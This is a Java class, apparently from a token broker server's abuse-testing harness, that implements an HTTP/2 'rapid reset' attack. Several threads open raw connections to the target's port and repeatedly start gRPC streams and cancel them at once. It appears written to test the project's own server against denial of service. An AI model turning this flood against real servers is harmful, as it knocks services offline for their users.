package io.tokenbroker.server.abuse;

import io.tokenbroker.v1.NextTokensRequest;
import io.tokenbroker.v1.TokenBrokerGrpc;
import io.tokenbroker.v1.TokenLimits;
import java.io.IOException;

/**
 * Calls with whole requests, each cancelled with the next frame; as fast as the socket takes it.
 */
final class RapidReset implements Attack {
  private static final String ACCOUNT = "reset";
  private static final int TOKENS = 20;
  private static final int SECRET_LENGTH = 60_000;
  private static final int CONNECTIONS = 4;
  private static final int BURST = 100;

  @Override
  public void prepare(Target target) {
    target.add(ACCOUNT, TOKENS, SECRET_LENGTH, TokenLimits.getDefaultInstance());
  }

  @Override
  public void run(Target target) throws InterruptedException {
    for (int i = 0; i < CONNECTIONS; i++) {
      Thread thread = new Thread(() -> attack(target), "reset " + i);
      thread.setDaemon(true);
      thread.start();
    }
    target.awaitEnd();
  }

  private static void attack(Target target) {
    byte[] request =
        Headers.message(NextTokensRequest.newBuilder().setAccount(ACCOUNT).setCount(1_000).build());
    String method = Headers.name(TokenBrokerGrpc.getNextTokensMethod());
    while (!target.isOver()) {
      // one connection after the other, as the broker closes them
      try (RawConnection connection = new RawConnection(target.port(), RawConnection.MAX_WINDOW)) {
        var unused = connection.read();
        while (!target.isOver()) {
          for (int i = 0; i < BURST; i++) {
            int stream = connection.begin(method);
            connection.send(stream, request, true);
            connection.reset(stream);
          }
          connection.flush();
        }
      } catch (IOException e) {
        // the next one
      }
    }
  }
}
